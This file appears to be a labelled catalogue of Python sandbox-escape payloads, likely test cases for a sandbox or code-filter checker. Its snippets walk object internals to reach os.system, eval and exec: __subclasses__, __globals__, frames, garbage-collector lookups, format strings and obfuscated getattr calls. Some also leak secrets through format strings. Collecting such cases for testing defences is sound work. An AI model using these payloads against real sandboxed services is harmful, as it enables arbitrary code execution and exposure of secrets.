#--- subclasses-list: all classes from a tuple
print(().__class__.__base__.__subclasses__())
#--- subclasses-popen: search for Popen
for c in object.__subclasses__():
    if c.__name__ == "Popen":
        c("id", shell=True)
#--- subclasses-wrap-close: the well-known os._wrap_close
[c for c in ().__class__.__mro__[-1].__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id")
#--- subclasses-catch-warnings: modules through warnings
for c in "".__class__.__mro__[1].__subclasses__():
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("id")
#--- subclasses-builtin-importer: importer class by name
imp = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
imp.load_module("posix").system("id")
#--- subclasses-by-index: a fixed place in the list
print([].__class__.__base__.__subclasses__()[132].__init__.__globals__)
#--- subclasses-type-of-type: type's own method
type.__subclasses__(object)[-1].__init__.__globals__
#--- mro-index: second entry of the row
obj = (1).__class__.__mro__[1]
print(obj.__subclasses__())
#--- mro-method: the mro method
print(int.mro()[-1].__subclasses__())
#--- bases-zero: by way of __bases__
print(str.__bases__[0].__subclasses__())
#--- globals-of-function: a function's module globals
import json
json.loads.__globals__["codecs"].builtins.exec("import os; os.system('id')")
#--- globals-of-own-function: builtins from an own function
def f():
    pass
f.__globals__["__builtins__"].__import__("os").system("id")
#--- globals-of-method: a method's module globals
import random
random.Random.seed.__globals__["_os"].system("id")
#--- globals-of-lambda: a lambda's module globals
(lambda: 0).__globals__["__builtins__"].eval("__import__('os').system('id')")
#--- globals-of-init: a class's __init__
import logging
logging.Handler.__init__.__globals__["os"].system("id")
#--- builtins-of-function: the newer attribute
def f():
    pass
f.__builtins__["eval"]("__import__('os').system('id')")
#--- self-of-builtin: the module of a builtin function
print.__self__.exec("import os; os.system('id')")
#--- self-of-len-getattr: the same with getattr
getattr(len.__self__, "ev" + "al")("__import__('os').system('id')")
#--- closure-cell: a value out of a closure
def outer():
    import os
    def inner():
        return os
    return inner
outer().__closure__[0].cell_contents.system("id")
#--- func-defaults: a value out of the defaults
import os
def f(x=os):
    pass
f.__defaults__[0].system("id")
#--- gi-frame: a generator's frame
def gen():
    yield 1
g = gen()
g.gi_frame.f_globals["__builtins__"].eval("__import__('os').system('id')")
#--- gi-frame-f-back: a generator's caller
def gen():
    yield g.gi_frame.f_back.f_back
g = gen()
frame = [x for x in g][0]
print(frame.f_globals)
#--- gi-code: a generator's code object
g = (x for x in range(3))
print(g.gi_code.co_consts, g.gi_frame.f_builtins)
#--- cr-frame: a coroutine's frame
async def co():
    pass
c = co()
c.cr_frame.f_builtins["__import__"]("os").system("id")
c.close()
#--- ag-frame: an asynchronous generator's frame
async def ag():
    yield 1
a = ag()
print(a.ag_frame.f_globals)
#--- tb-frame: a traceback's frame
try:
    1 / 0
except ZeroDivisionError as e:
    e.__traceback__.tb_frame.f_globals["__builtins__"].exec("import os; os.system('id')")
#--- tb-frame-f-back: the caller of a traceback's frame
def f():
    try:
        raise ValueError
    except ValueError as e:
        return e.__traceback__.tb_frame.f_back
print(f().f_locals)
#--- tb-next-walk: down the row of tracebacks
try:
    {}["x"]
except KeyError as e:
    tb = e.__traceback__
    while tb.tb_next:
        tb = tb.tb_next
    print(tb.tb_frame.f_builtins)
#--- exc-info-frame: by sys.exc_info
import sys
try:
    int("x")
except ValueError:
    frame = sys.exc_info()[2].tb_frame
    frame.f_builtins["eval"]("__import__('os').system('id')")
#--- getframe: by sys._getframe
import sys
sys._getframe(0).f_builtins["__import__"]("os").system("id")
#--- getframe-walk-back: up the row of callers
import sys
f = sys._getframe()
while f.f_back:
    f = f.f_back
print(f.f_globals.keys())
#--- inspect-currentframe: by inspect
import inspect
inspect.currentframe().f_back
inspect.currentframe().f_builtins["exec"]("import os; os.system('id')")
#--- inspect-stack: all frames by inspect
import inspect
for info in inspect.stack():
    print(info.frame.f_locals)
#--- inspect-getattr-static: attribute lookup by inspect
import inspect, logging
inspect.getattr_static(logging, "os").system("id")
#--- gc-get-objects: every object there is
import gc
for o in gc.get_objects():
    if isinstance(o, dict) and "popen" in o:
        o["popen"]("id")
        break
#--- gc-get-referrers: who holds this object
import gc
for r in gc.get_referrers(print):
    if isinstance(r, dict) and "exec" in r:
        r["exec"]("import os; os.system('id')")
#--- format-class: format-string attribute access
print("{0.__class__.__mro__}".format(1))
#--- format-globals: secrets through a format string
SECRET = "s3cr3t"
class User:
    def __init__(self):
        self.name = "bob"
print("{u.__init__.__globals__[SECRET]}".format(u=User()))
#--- format-map-walk: the same by format_map
class User:
    def __init__(self):
        pass
print("{u.__class__.__init__.__globals__}".format_map({"u": User()}))
#--- format-unbound: str.format called unbound
print(str.format("{0.__class__.__base__}", ()))
#--- format-built-template: the template is joined first
class A:
    def f(self):
        pass
t = "{0." + "__init__" + ".__glo" + "bals__}"
A.__init__ = A.f
print(t.format(A()))
#--- format-attribute-variable: the template comes from the user
class Event:
    def __init__(self):
        self.level = 1
template = input("template: ")
template = template or "{e.__init__.__globals__}"
print(template.format(e=Event()))
#--- formatter-get-field: string.Formatter
import string
obj, _ = string.Formatter().get_field("0.__class__.__base__.__subclasses__", ((),), {})
print(obj())
#--- formatter-vformat: string.Formatter.vformat
import string
print(string.Formatter().vformat("{0.__class__.__mro__[1]}", ([],), {}))
#--- logging-brace-style: logging with brace style
import logging
logging.basicConfig(format="{msg.__class__.__base__}", style="{")
logging.warning("x")
#--- getattr-dunder-class: the walk by getattr
c = getattr((), "__class__")
b = getattr(c, "__base__")
print(getattr(b, "__subclasses__")())
#--- getattr-dunder-built: the walk with built names
u = "__"
o = getattr(getattr((), u + "class" + u), u + "base" + u)
print(getattr(o, u + "subclasses" + u)())
#--- attrgetter-walk: the walk by attrgetter
from operator import attrgetter
print(attrgetter("__class__.__base__.__subclasses__")(())())
#--- type-walk: type() in place of __class__
print(type(type(1)).__subclasses__(type(1).__base__))
#--- match-class-walk: attributes by a class pattern
match ():
    case object(__class__=c):
        print(c.__base__.__subclasses__())
#--- match-builtins-walk: attributes of a function by a pattern
def f():
    pass
match f:
    case object(__globals__=g):
        g["__builtins__"].eval("__import__('os').system('id')")
#--- dunder-reduce-walk: copyreg's rebuild function
print((1).__reduce_ex__(2)[0].__globals__["__builtins__"])
#--- getattribute-unbound: the slot called unbound
t = type.__getattribute__(object, "__subclasses__")
print(t())
#--- class-cell-walk: by the hidden __class__ cell
class A:
    def go(self):
        return __class__.__base__.__subclasses__()
print(A().go())
#--- init-globals-of-exit: printers of the site module
exit.__class__.__init__.__globals__["sys"].modules["os"].system("id")
#--- license-walk: the site module's license object
license.__class__.__init__.__globals__["os"].system("id")
#--- help-walk: the site module's help object
help.__class__.__call__.__globals__["sys"].modules["os"].system("id")
#--- string-template-walk: a class attribute of Template
import string
string.Template.__init_subclass__.__func__.__globals__["__builtins__"]
string.Template.substitute.__globals__["__builtins__"]["eval"]("1")
#--- func-of-bound-method: __func__ and on
class A:
    def go(self):
        pass
A().go.__func__.__globals__["__builtins__"].eval("__import__('os').system('id')")
#--- wrapped-walk: __wrapped__ and on
import contextlib
@contextlib.contextmanager
def cm():
    yield
cm.__wrapped__.__globals__["contextlib"].os.system("id")
#--- threading-excepthook-args: a frame by the thread hook
import threading
def hook(args):
    args.exc_traceback.tb_frame.f_builtins["eval"]("__import__('os').system('id')")
threading.excepthook = hook
threading.Thread(target=lambda: 1 / 0).start()
